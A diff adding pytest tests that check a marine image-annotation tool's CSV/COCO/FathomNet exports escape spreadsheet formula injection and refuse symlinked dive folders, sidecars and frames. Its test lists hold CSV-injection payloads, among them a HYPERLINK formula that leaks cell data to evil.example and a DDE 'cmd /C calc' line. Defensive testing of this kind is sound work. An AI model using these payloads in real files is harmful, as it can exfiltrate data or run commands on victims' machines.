@@ -9,6 +9,8 @@ peer as a formula never yields a formula cell; a symlinked frame is refused.
 
 from __future__ import annotations
 
+import csv
+import dataclasses
 import hashlib
 import json
 import math
@@ -20,6 +22,10 @@ import pytest
 
 from companion.archive.report import write_campaign_report
 from companion.config import StoreConfig
+from companion.errors import UsageError
+from companion.export import fathomnet
+from companion.export.records import read_records
+from companion.export.viame_csv import copy_images, image_dir, sheet_safe
 from companion.storage.store import Store
 from companion.vision.events import SummaryEvent, SummaryFrame
 from tests.companion.export.readers import coco_read, dive_read, fathomnet_read, formula_cells
@@ -30,7 +36,10 @@ from vehicle.autopilot.pose import Pose
 QUERY = "underwater image with fish"
 TAU = 0.5
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"fish")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
-           "\t=1+1", "\r=1+1"]
+           "\t=1+1", "\r=1+1", '"=1+1"', "\uff1dHYPERLINK(1)", "\u201c=1+1"]
+BEHIND_BLANKS = ["( =1+1", "(\u3000@SUM(1,2)", '( "=HYPERLINK(1)']
+"""Queries whose species cell (a leading ``(`` dropped: DIVE reads it as an attribute) opens with blanks or quotes
+and then a formula: a spreadsheet that trims cells on import runs them."""
 
 
 def pose(i: int) -> Pose:
@@ -135,6 +144,50 @@ def test_a_hostile_query_never_makes_a_formula_cell(tmp_path, query):
     assert rows[0]["pairs"][0][0] == "'" + query.strip()  # the species, kept readable, never run
 
 
+@pytest.mark.parametrize("query", BEHIND_BLANKS)
+def test_a_formula_behind_blanks_or_quotes_is_escaped_too(tmp_path, query):
+    store = make_store(tmp_path / "store", query=query)
+    out = tmp_path / "hostile.csv"
+    export(store, "csv", out)
+    assert formula_cells(out) == []
+    assert dive_read(out)[0]["pairs"][0][0] == "'" + query[1:]  # escaped, the blanks and quotes kept
+
+
+@pytest.mark.parametrize("query", ["  =HYPERLINK(1)", '"=1+1"', "\u00a0-2+3", "\uff0b1"])
+def test_the_campaign_index_escapes_a_formula_behind_blanks_or_quotes(campaign, tmp_path, query):  # noqa: F811
+    root = tmp_path / "campaign"
+    shutil.copytree(campaign, root)
+    summary = root / "dive1" / "summary.json"
+    doc = json.loads(summary.read_text())
+    doc["params"]["query"] = query
+    for topic in doc["params"]["topics"]:
+        topic["query"] = query
+    summary.write_text(json.dumps(doc))
+    write_campaign_report(root, ["dive1"])
+    assert formula_cells(root / "index.csv") == [] and formula_cells(root / "export_viame.csv") == []
+    with (root / "index.csv").open(newline="", encoding="utf-8") as fh:
+        assert {row["query"] for row in csv.DictReader(fh)} == {"'" + query}
+
+
+def test_the_campaign_index_writes_no_heading_of_360(campaign, tmp_path):  # noqa: F811
+    root = tmp_path / "campaign"
+    shutil.copytree(campaign, root)
+    tags_path = root / "dive1" / "tags.json"
+    tags = json.loads(tags_path.read_text())
+    for frame, heading in zip(tags["frames"], [360.0, 359.5, -90.0], strict=False):
+        frame["pose"]["heading_deg"] = heading  # as an older tool's pose (% 360.0) could hold
+    tags_path.write_text(json.dumps(tags))
+    write_campaign_report(root, ["dive1"])
+    with (root / "index.csv").open(newline="", encoding="utf-8") as fh:
+        headings = [float(row["heading_deg"]) for row in csv.DictReader(fh)]
+    assert headings[:3] == [0.0, 359.5, 270.0][:len(headings)] and all(0.0 <= h < 360.0 for h in headings)
+
+
+def test_numbers_stay_numbers_and_float_lookalikes_do_not():
+    assert [sheet_safe(c) for c in ("-1.5", "+2", "-3e-05", ".5", "0")] == ["-1.5", "+2", "-3e-05", ".5", "0"]
+    assert [sheet_safe(c) for c in ("-1_0", "-inf", " -1", "-nan")] == ["'-1_0", "'-inf", "' -1", "'-nan"]
+
+
 def test_the_campaign_index_and_exports_have_no_formula_cell(campaign, tmp_path):  # noqa: F811
     root = tmp_path / "campaign"
     shutil.copytree(campaign, root)
@@ -166,6 +219,40 @@ def test_a_symlinked_frame_is_refused_not_followed(store, tmp_path):
     frames.symlink_to(tmp_path / "real_frames")  # the whole folder linked elsewhere: refused too
     proc = run_merlion("export", str(linked), "--format", "csv", "--out", str(tmp_path / "y.csv"))
     assert proc.returncode == 2 and "frames: a symbolic link" in one_error_line(proc.stderr)
+
+
+def test_a_campaign_dive_or_sidecar_that_is_a_link_is_refused(campaign, tmp_path):  # noqa: F811
+    root = tmp_path / "campaign"
+    shutil.copytree(campaign, root)
+    (root / "dive1").rename(tmp_path / "elsewhere")
+    (root / "dive1").symlink_to(tmp_path / "elsewhere")  # the dive folder itself links out of the campaign
+    proc = run_merlion("export", str(root), "--format", "csv", "--out", str(tmp_path / "a.csv"))
+    assert proc.returncode == 2 and "dive1: a symbolic link" in one_error_line(proc.stderr)
+    (root / "dive1").unlink()
+    shutil.copytree(tmp_path / "elsewhere", root / "dive1")
+    (root / "manifest.json").write_text(json.dumps({"finished": {"../elsewhere": {}}}))  # a name out of it
+    proc = run_merlion("export", str(root), "--format", "coco", "--out", str(tmp_path / "b.json"))
+    assert proc.returncode == 2 and "'../elsewhere' is not a folder of the campaign" in one_error_line(proc.stderr)
+    (root / "manifest.json").write_text(json.dumps({"finished": {"dive1": {}}}))
+    tags = root / "dive1" / "tags.json"
+    tags.rename(tmp_path / "tags.json")
+    tags.symlink_to(tmp_path / "tags.json")  # a sidecar linked in
+    proc = run_merlion("export", str(root), "--format", "fathomnet", "--out", str(tmp_path / "c.json"))
+    assert proc.returncode == 2 and "tags.json: a symbolic link" in one_error_line(proc.stderr)
+    assert not any((tmp_path / n).exists() for n in ("a.csv", "b.json", "c.json", "a_images"))
+
+
+def test_a_frame_swapped_for_a_link_after_the_check_is_not_copied(store, tmp_path):
+    records = read_records(store)
+    swapped = tmp_path / "swapped.jpg"
+    swapped.symlink_to("/etc/hostname")
+    records[1] = dataclasses.replace(records[1], image=swapped)  # as if replaced between the check and the copy
+    out = tmp_path / "x.csv"
+    with pytest.raises(UsageError, match="swapped.jpg: not copied"):
+        copy_images(records, out)
+    assert not image_dir(out).exists() and not [p for p in tmp_path.iterdir() if p.name.startswith(".x_images")]
+    with pytest.raises(UsageError, match="swapped.jpg: not read"):  # nor hashed through it (FathomNet's sha256)
+        fathomnet.image_record(records[1], "file:///x.jpg")
 
 
 @pytest.fixture(scope="module")
